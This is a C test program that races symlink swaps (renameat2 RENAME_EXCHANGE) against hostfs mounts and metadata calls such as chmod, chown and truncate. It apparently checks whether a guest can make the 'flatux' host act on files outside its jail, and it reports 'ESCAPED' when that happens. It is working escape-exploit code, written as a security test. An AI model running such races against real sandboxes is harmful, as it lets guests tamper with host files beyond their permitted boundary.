// A guest racing hostfs with ordinary system calls, as root of a writable
// root folder, to make flatux act on a host path outside it:
//
//   mount  RENAME_EXCHANGE of a folder and a link to a host folder outside
//          while mount(2) asks for a hostfs of that folder
//   chmod  RENAME_EXCHANGE of a file and a link to a host file outside
//          while chmod, chown, utimensat, truncate and setxattr work on it
//
// usage: race mount|chmod SECONDS JAIL OUTSIDE
//   JAIL     the host path of the guest's root
//   OUTSIDE  a host folder next to it holding `marker` and `victim`
// Prints counts and "ESCAPED ..." for anything seen of OUTSIDE; attack.py
// checks OUTSIDE from the host. Exit 0: no escape seen.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static atomic_int stop;
static atomic_long swaps;
static const char* swap_a;
static const char* swap_b;

static void* swapper(void* arg) {
  (void)arg;
  while (!atomic_load(&stop)) {
    if (syscall(SYS_renameat2, AT_FDCWD, swap_a, AT_FDCWD, swap_b, RENAME_EXCHANGE) == 0)
      atomic_fetch_add(&swaps, 1);
  }
  return NULL;
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int race_mount(double seconds, const char* jail, const char* outside) {
  mkdir("/a", 0755);
  mkdir("/mnt", 0755);
  if (symlink(outside, "/b") != 0) perror("symlink /b");
  char source[4096];
  snprintf(source, sizeof source, "%s/a", jail);
  swap_a = "/a";
  swap_b = "/b";
  pthread_t th;
  pthread_create(&th, NULL, swapper, NULL);
  long tries = 0, mounted = 0, escaped = 0;
  double end = now() + seconds;
  while (now() < end) {
    tries++;
    if (mount("none", "/mnt", "hostfs", 0, source) != 0) continue;
    mounted++;
    if (access("/mnt/marker", F_OK) == 0) {
      if (escaped++ == 0) printf("ESCAPED: a hostfs of %s showed %s/marker\n", source, outside);
    }
    umount("/mnt");
  }
  atomic_store(&stop, 1);
  pthread_join(th, NULL);
  printf("mount race: %ld mounts tried, %ld made, %ld swaps, %ld escapes\n", tries, mounted,
         atomic_load(&swaps), escaped);
  return escaped ? 1 : 0;
}

static int race_chmod(double seconds, const char* outside) {
  int fd = open("/f", O_CREAT | O_WRONLY, 0644);
  if (fd >= 0) close(fd);
  char victim[4096];
  snprintf(victim, sizeof victim, "%s/victim", outside);
  if (symlink(victim, "/l") != 0) perror("symlink /l");
  swap_a = "/f";
  swap_b = "/l";
  pthread_t th;
  pthread_create(&th, NULL, swapper, NULL);
  long calls = 0, done = 0;
  struct timespec epoch[2] = {{0, 0}, {0, 0}};
  double end = now() + seconds;
  while (now() < end) {
    done += chmod("/f", 0606) == 0;
    done += chown("/f", 1234, 1234) == 0;
    done += utimensat(AT_FDCWD, "/f", epoch, 0) == 0;
    done += truncate("/f", 0) == 0;
    done += setxattr("/f", "user.race", "x", 1, 0) == 0;
    done += lchown("/f", 4321, 4321) == 0;
    calls += 6;
  }
  atomic_store(&stop, 1);
  pthread_join(th, NULL);
  printf("chmod race: %ld calls, %ld succeeded on the guest's own file, %ld swaps\n", calls, done,
         atomic_load(&swaps));
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc != 5) {
    fprintf(stderr, "usage: race mount|chmod SECONDS JAIL OUTSIDE\n");
    return 2;
  }
  double seconds = atof(argv[2]);
  if (!strcmp(argv[1], "mount")) return race_mount(seconds, argv[3], argv[4]);
  if (!strcmp(argv[1], "chmod")) return race_chmod(seconds, argv[4]);
  return 2;
}
